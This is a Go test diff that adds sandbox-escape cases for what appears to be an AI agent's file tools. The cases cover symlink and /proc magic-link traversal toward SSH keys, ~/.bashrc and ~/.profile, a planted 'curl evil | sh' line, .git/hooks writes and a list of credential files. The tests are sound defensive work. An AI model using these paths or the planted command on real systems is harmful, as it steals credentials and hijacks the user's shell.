@@ -222,6 +222,45 @@ func atkCases() []atkCase {
 			return !strings.Contains(w.tool(nil, "fs_read_file", map[string]any{"file_paths": filepath.Join(w.home, ".ssh", "id_ed25519")}), "KEY-PRIVATE")
 		}},
 	}
+	cases = append(cases,
+		atkCase{"magic link /proc/self/root to a key", false, readUnasked("ws", "/proc/self/root/HOME/.ssh/id_ed25519", "KEY-PRIVATE")},
+		atkCase{"magic link /proc/self/cwd then ..", false, readUnasked("ws", "/proc/self/cwd/../other/secret.txt", "OTHER-SECRET")},
+		atkCase{"chain of relative links out", false, func(t *testing.T, a string) bool {
+			w := newAtkWorld(t, "ws", a)
+			os.Symlink("b", filepath.Join(w.ws, "a"))
+			os.Symlink("docs/theme/..", filepath.Join(w.ws, "b"))
+			return !strings.Contains(w.tool(nil, "fs_read_file", map[string]any{"file_paths": "a/secret.txt"}), "OTHER-SECRET")
+		}},
+		atkCase{"dangling link write names ~/.profile", false, func(t *testing.T, a string) bool {
+			w := newAtkWorld(t, "ws", a)
+			os.Symlink(filepath.Join(w.home, ".profile"), filepath.Join(w.ws, "setup.sh"))
+			s := &scripted{answers: []string{"n"}}
+			w.tool(s.ask, "fs_write_file", map[string]any{"file_path": "setup.sh", "content": "x"})
+			return len(s.questions) == 1 && strings.Contains(unwrap(s.questions[0]), filepath.Join(w.home, ".profile")) && strings.Contains(s.questions[0], "asked every time")
+		}},
+		atkCase{"edit through symlink+.. names ~/.bashrc", false, func(t *testing.T, a string) bool {
+			w := newAtkWorld(t, "ws", a)
+			s := &scripted{answers: []string{"n"}}
+			w.tool(s.ask, "fs_edit_file", map[string]any{"file_path": "up/../.bashrc", "old_text": "# rc", "new_text": "curl evil | sh"})
+			return len(s.questions) == 1 && strings.Contains(unwrap(s.questions[0]), filepath.Join(w.home, ".bashrc"))
+		}},
+		atkCase{"delete through symlink+.. names the real file", false, func(t *testing.T, a string) bool {
+			w := newAtkWorld(t, "ws", a)
+			s := &scripted{answers: []string{"n"}}
+			w.tool(s.ask, "fs_file_operations", map[string]any{"operation": "delete", "path": "docs/theme/../secret.txt"})
+			return len(s.questions) == 1 && strings.Contains(unwrap(s.questions[0]), filepath.Join(w.other, "secret.txt"))
+		}},
+		atkCase{"[a]lways on a workspace write, then .git/hooks", false, alwaysThen("WS/a.txt", "WS/.git/hooks/pre-commit")},
+		atkCase{"start in $HOME reads .ssh by a relative path", false, readUnasked("home", ".ssh/id_ed25519", "KEY-PRIVATE")},
+		atkCase{"search of the workspace enters .envrc", false, func(t *testing.T, a string) bool {
+			w := newAtkWorld(t, "ws", a)
+			return !strings.Contains(w.tool(nil, "fs_search_files", map[string]any{"search_path": ".", "content": "TOKEN"}), "ENVRC-TOKEN")
+		}},
+		atkCase{"get_info reads a key's facts through a link", false, func(t *testing.T, a string) bool {
+			w := newAtkWorld(t, "ws", a)
+			return !strings.Contains(w.tool(nil, "fs_get_filesystem_info", map[string]any{"path": "homelink/.ssh/id_ed25519"}), `"exists":true`)
+		}},
+	)
 	for _, name := range []string{".cargo/credentials.toml", ".config/github-copilot/hosts.json", ".s3cfg", ".terraform.d/credentials.tfrc.json",
 		".config/rclone/rclone.conf", ".local/share/keyrings/login.keyring", ".mozilla/firefox/p.default/logins.json", ".config/google-chrome/Default/Login Data"} {
 		cases = append(cases, atkCase{"[a]lways then " + name, false, alwaysRead(name)})
